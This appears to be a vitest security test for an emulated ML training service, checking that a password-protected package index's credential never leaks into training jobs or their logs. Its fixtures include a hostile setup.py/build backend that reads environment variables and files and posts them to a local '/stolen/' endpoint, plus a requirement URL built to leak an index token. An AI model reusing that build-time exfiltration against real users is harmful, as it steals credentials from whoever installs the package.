import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { Header } from "tar";
import { afterAll, beforeAll, expect, test } from "vitest";
import { clientsOf, linesOf, patience } from "./clients.ts";
import { Bucket, basePython, uploadTexts } from "./processing-jobs.ts";
import { scriptEnvironments } from "./script-environments.ts";
import { createTestServer, type TestServer } from "./server.ts";
import { role } from "./xgboost-job.ts";

/** Put together, so that the script does not find it in this file, which a new checkout has just written. */
const password = ["password", "of", "the", "index"].join("-");
/** A package index that asks for a password, with a wheel, and a source archive that tells what it sees when it is built. */
const files = new Map<string, Buffer>();
const asked: string[] = [];
const index = createServer((request, response) => {
  const url = request.url!;
  const body: Buffer[] = [];
  const answer = (status: number, text: string | Buffer = "") => void response.writeHead(status).end(text);
  request.on("data", (bytes) => body.push(bytes));
  // An answer that came sooner would end the connection, and with it what is being told.
  request.on("end", () => {
    asked.push(`${url} ${Buffer.concat(body)}`);
    if (/^\/(stolen|taken)/.test(url)) return answer(200);
    if (url === "/elsewhere.txt")
      return answer(200, `taken @ ${address()}/taken/\${UV_INDEX_TOKEN}/x-1-py3-none-any.whl`);
    const { authorization } = request.headers;
    if (authorization !== `Basic ${Buffer.from(`me:${password}`).toString("base64")}`) return answer(401);
    const name = /^\/simple\/(\w+)\/$/.exec(url)?.[1];
    const file = [...files.keys()].find((one) => one.startsWith(`${name}-`));
    if (file) {
      response.setHeader("content-type", "text/html");
      return answer(200, `<a href="/files/${file}">${file}</a>`);
    }
    const found = files.get(url.slice("/files/".length));
    return found ? answer(200, found) : answer(404);
  });
});
const address = () => `http://127.0.0.1:${(index.address() as AddressInfo).port}`;

const tar = (members: Readonly<Record<string, string>>): Buffer => {
  const blocks = Object.entries(members).map(([path, text]) => {
    const bytes = Buffer.alloc(512 + Math.ceil(Buffer.byteLength(text) / 512) * 512);
    new Header({ path, type: "File", mode: 0o644, size: Buffer.byteLength(text) }).encode(bytes);
    bytes.write(text, 512);
    return bytes;
  });
  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]));
};

const setup = (name: string) => `
import glob, os, urllib.request
from distutils.core import setup
seen = repr(dict(os.environ)) + "".join(open(f, errors="replace").read() for f in glob.glob("/opt/ml/**/*.txt", recursive=True))
urllib.request.urlopen("ADDRESS/stolen/${name}", seen.encode())
setup(name="${name}", version="1.0", py_modules=["${name}"])
`;
/** Its build needs nothing of an index. */
const backend = (name: string) => ({
  "pyproject.toml": `[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n`,
  "backend.py": `exec(open("setup.py").read().split("setup(")[0])\ndef build_wheel(*words): raise SystemExit("no wheel")\n`,
  "setup.py": setup(name).replace("from distutils.core import setup\n", "").replace("ADDRESS", address()),
  "PKG-INFO": `Metadata-Version: 1.0\nName: ${name}\nVersion: 1.0\n`,
});
const under = (folder: string, members: Readonly<Record<string, string>>) =>
  Object.fromEntries(Object.entries(members).map(([path, text]) => [`${folder}/${path}`, text]));

let server: TestServer;
let top: string;
beforeAll(async () => {
  await once(index.listen(0, "127.0.0.1"), "listening");
  top = mkdtempSync(join(tmpdir(), "sagebrush-index-"));
  const wheel = "good-1.0-py3-none-any.whl";
  const write = `
import sys, zipfile
of = {"good.py": "VALUE = 7\\n", "good-1.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: good\\nVersion: 1.0\\n",
      "good-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
of["good-1.0.dist-info/RECORD"] = "".join(f"{name},,\\n" for name in [*of, "good-1.0.dist-info/RECORD"])
with zipfile.ZipFile(sys.argv[1], "w") as file:
    for name, text in of.items():
        file.writestr(name, text)
`;
  execFileSync("python3", ["-c", write, join(top, wheel)]);
  files.set(wheel, readFileSync(join(top, wheel)));
  files.set("evil-1.0.tar.gz", tar(under("evil-1.0", backend("evil"))));
  server = await createTestServer({
    environment: {
      ...scriptEnvironments,
      UV_INDEX_URL: address().replace("//", `//me:${password}@`).concat("/simple"),
      // A variable that an installer would put into an address.
      UV_INDEX_TOKEN: password,
    },
  });
  await server.start();
  await uploadTexts(server);
});
afterAll(async () => {
  await server?.close();
  index.close();
  rmSync(top, { recursive: true });
});

/** What the script finds of the password: in its variables, and in the files that it sees. */
const script = `
import os, time, good
# What was written for this job; those of the system and of the image are many.
begun = time.time() - 600
found = [name for name, value in os.environ.items() if "${password}" in value]
for folder, below, names in os.walk("/"):
    below[:] = [name for name in below if name not in ("proc", "sys", "dev", "usr")]
    for name in names:
        try:
            if os.stat(f"{folder}/{name}").st_mtime < begun:
                continue
            with open(f"{folder}/{name}", "rb") as file:
                if b"${password.slice(0, -1)}" b"${password.slice(-1)}" in file.read(1_000_000):
                    found.append(f"{folder}/{name}")
        except OSError:
            pass
print("FOUND", good.VALUE, [name for name in found if not name.endswith("/train.py")])
`;

async function train(name: string, requirements: string, more: Readonly<Record<string, string>> = {}) {
  const { s3, sagemaker } = clientsOf(server);
  const source = tar({ "train.py": script, "requirements.txt": `${requirements}\n`, ...more });
  await s3.putObject({ Bucket, Key: `${name}.tar.gz`, Body: source });
  await sagemaker.createTrainingJob({
    TrainingJobName: name,
    RoleArn: role,
    AlgorithmSpecification: { TrainingImage: basePython, TrainingInputMode: "File" },
    HyperParameters: {
      sagemaker_program: "train.py",
      sagemaker_submit_directory: `s3://${Bucket}/${name}.tar.gz`,
    },
    OutputDataConfig: { S3OutputPath: `s3://${Bucket}/out` },
    ResourceConfig: { InstanceType: "ml.m5.large", InstanceCount: 1, VolumeSizeInGB: 1 },
    StoppingCondition: { MaxRuntimeInSeconds: 600 },
  });
  const job = () => sagemaker.describeTrainingJob({ TrainingJobName: name });
  await expect.poll(async () => (await job()).TrainingJobStatus, patience).toMatch(/^(Completed|Failed)$/);
  const lines = (await linesOf(server, "/aws/sagemaker/TrainingJobs", `${name}/`)).flat();
  expect(lines.join("\n")).not.toContain(password);
  return { reason: (await job()).FailureReason ?? "", lines };
}

test("a wheel comes from an index that needs a password, and the script finds no trace of that", async () => {
  const { reason, lines } = await train("wheel", "good");
  expect({ reason, lines }).toMatchObject({ reason: "", lines: expect.arrayContaining(["FOUND 7 []"]) });
});

test.each([
  ["a source archive of the index", "sdist", "evil", {}, /evil==1\.0 has no usable wheels/],
  ["a folder beside the requirements", "folder", "./own", "own", /own/],
  [
    "an address with a variable",
    "variable",
    `taken @ ADDRESS/taken/\${UV_INDEX_TOKEN}/x-1-py3-none-any.whl`,
    {},
    /x-1/,
  ],
  ["requirements that lie elsewhere", "elsewhere", "-r ADDRESS/elsewhere.txt", {}, /x-1/],
])("%s does not get it, and the job says why it fails", async (_, name, requirements, folder, words) => {
  const more = folder === "own" ? under("own", backend("own")) : {};
  const { reason } = await train(name, requirements.replace("ADDRESS", address()), more);
  expect(reason).toMatch(/^ClientError: requirements\.txt could not be installed: /);
  expect(reason).toMatch(words);
  expect(reason).not.toContain(password);
  if (name === "sdist" || name === "folder") expect(reason).toMatch(/UV_INDEX_URL.* of the server has a password/);
});

test("what was built has seen no password, and no address had one", () => {
  const told = asked.filter((line) => /^\/(stolen|taken)/.test(line));
  // The folder was built, without the password.
  expect(told.some((line) => line.startsWith("/stolen/own"))).toBe(true);
  for (const line of asked) expect(line).not.toContain(password);
});
